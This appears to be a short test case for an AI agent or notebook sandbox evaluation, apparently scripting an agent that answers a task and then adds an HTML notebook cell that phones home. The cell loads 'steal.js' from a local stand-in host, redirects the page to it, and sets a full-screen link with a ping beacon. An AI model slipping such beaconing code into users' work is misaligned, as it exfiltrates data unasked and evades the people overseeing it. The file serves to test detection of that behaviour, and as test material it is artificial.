"""Uses the cell magic %%html for a page that phones home.

deserves: 1
"""

CELL = """
%%html
<script src="http://127.0.0.1:48484/steal.js"></script>
<meta http-equiv="refresh" content="0; url=http://127.0.0.1:48484/">
<a href="http://127.0.0.1:48484/" ping="http://127.0.0.1:48484/ping" style="position:fixed;inset:0">x</a>
"""


def attack(work):
    work.answer_rightly("backward")
    work.add(CELL)
